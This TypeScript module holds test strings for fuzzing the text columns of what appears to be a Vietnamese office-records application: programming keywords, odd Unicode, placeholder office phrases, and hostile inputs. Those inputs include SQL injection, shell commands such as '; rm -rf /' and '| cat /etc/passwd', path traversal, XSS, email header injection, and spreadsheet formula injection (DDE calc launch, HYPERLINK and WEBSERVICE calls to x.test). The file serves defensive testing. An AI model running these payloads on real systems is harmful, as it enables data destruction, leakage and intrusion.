/**
 * Texts that mean nothing in any column of ours, written for this corpus: words of programming
 * languages, injections, odd scripts and signs. In every column they are kept, asked about where
 * something is expected, and never understood.
 */
const programmers = [
  ...['undefined', 'null', 'NULL', '(null)', 'nil', 'None', 'NaN', 'Infinity', '-Infinity', 'true'],
  ...['false', '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'],
  ...['isPrototypeOf', '__defineGetter__', 'length', 'then', 'default', 'this', 'eval', 'new'],
  ...[
    '[object Object]',
    '{}',
    '[]',
    '{"a":1}',
    '[1,2]',
    '() => 1',
    '\u0024{7*7}',
    '{{7*7}}',
    '#{7*7}',
  ],
  ...['<%= 7*7 %>', '%s%s%s%n', '%00', '\\0', '\\n', '\\u0000', '$1', '$&', '$`', '\\', '\\\\'],
] as const;

const injections = [
  ...["' OR '1'='1", "'; DROP TABLE nhiem_vu; --", '" OR ""="', "1' AND SLEEP(5)#", "admin'--"],
  ...['; rm -rf /', '| cat /etc/passwd', '`id`', '$(id)', '&& shutdown', '../../etc/passwd'],
  ...['..\\..\\windows\\system32', 'C:\\con\\con', 'file:///etc/passwd', 'gopher://127.0.0.1'],
  ...['http://169.254.169.254/latest', 'javascript:alert(1)', 'data:text/html,x', '//evil.test'],
  ...['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<svg/onload=alert(1)>'],
  ...[
    "<a href='javascript:x'>x</a>",
    '<!--',
    '-->',
    '<![CDATA[x]]>',
    ']]>',
    '<?xml?>',
    '<!DOCTYPE x>',
  ],
  ...['&amp;', '&lt;', '&#0;', '&#x41;', '&unknown;', '<w:p>', '</w:t>', '_x0041_', '_x000D_'],
  ...['To: a@b.test\r\nBcc: c@d.test', 'Subject: x\nx', '=?utf-8?B?eA==?=', '.\r\nQUIT'],
] as const;

const scripts = [
  ...['Ω≈ç√∫', 'åß∂ƒ©˙∆', '¡™£¢∞§¶•ªº', '⁰⁴⁵', '₀₁₂', '٠١٢٣', '０１２３', '๐๑๒', '①②③', 'Ⅳ', '½'],
  ...['田中さん', '사회과학원', '社會科學院', 'Привет', 'مرحبا', 'שלום', 'ελληνικά', 'ไทย', 'ខ្មែរ'],
  ...['🙂', '👨‍👩‍👧‍👦', '🇻🇳', '👍🏽', '🏳️‍🌈', '⭐⭐⭐', '✅', '❌', '☑', '→', '±', '∅', '†', '◆'],
  ...[
    '̀́̂',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
    'a\u0301\u0301\u0301',
    '\u202eabc\u202c',
    '\u2066x\u2069',
    'ǅ',
    'ﬁ',
    'ß',
    'İ',
    'ı',
    'ſ',
  ],
  ...[
    '\ud83d',
    '\udc00\ud800',
    '\ufffd',
    '\ufffe',
    'x\u0000y',
    'x\u0007y',
    '\u001b[31mx',
    'x\u0085y',
  ],
] as const;

const signs = [
  ...['~!@#', '$%^&*', '()', ':;', '"', "''", '“”', '‘', '`', '???', '!!!', '@', '&', '|', '¦'],
  ...['===', '<>', '<=>', '->', '=>', '::', '++', '[x]', '#', '#REF!', '#NAME?', '#DIV/0!', '#N/A'],
] as const;

const offices = [
  ...['abc', 'xyz', 'test', 'lorem ipsum', 'aaaaaaaaaa', 'không rõ', 'xem sau', 'như trên', 'nt'],
  ...[
    '(trống)',
    'chưa rõ',
    'để sau',
    'hỏi anh Ba',
    'SĐT 0225',
    'Zalo',
    'đã đọc tin',
    'kính chuyển',
  ],
  ...[
    'Nguyễn Văn A',
    'họp',
    'mượn',
    'của tôi',
    'ok',
    'okay',
    'yes',
    'no',
    'a@b.test',
    'www.x.test',
  ],
  ...[
    'Xem bảng bên',
    'Phụ lục',
    'đính kèm',
    'file Word',
    'scan',
    'bản giấy',
    'x x x',
    'v v',
    'v.v.',
  ],
] as const;

export const naughtyTexts: readonly string[] = [
  ...programmers,
  ...injections,
  ...scripts,
  ...signs,
  ...offices,
];

/** Formulas and what spreadsheets would take for them, as people or attackers paste them. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  '"=',
  ' =',
  ';=',
  ',=',
];
const bodies = [
  '1+1',
  'HYPERLINK("http://x.test/?"&A1,"Bấm")',
  "cmd|' /C calc'!A0",
  'IMPORTXML("http://x.test","//a")',
  'WEBSERVICE("http://x.test")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A:A)*0',
  'RTD("x",,"y")',
];

export const formulaTexts: readonly string[] = starts.flatMap((start) =>
  bodies.map((body) => `${start}${body}`),
);

/** How such texts come into cells: copied from a web page, a chat, a right-to-left program. */
const wrappings: readonly ((text: string) => string)[] = [
  (text) => `\u00a0${text}\u00a0`,
  (text) => `“${text}”`,
  (text) => `\u202e${text}\u202c`,
  (text) => `\n${text}\n`,
  (text) => `${text}\u200b\ufeff`,
];

/** The words of programmers and the injections, in each of these wrappings. */
export const wrappedTexts: readonly string[] = naughtyTexts
  .filter((text) => /^[!-~]{3,40}$/.test(text))
  .slice(0, 66)
  .flatMap((text) => wrappings.map((wrap) => wrap(text)));
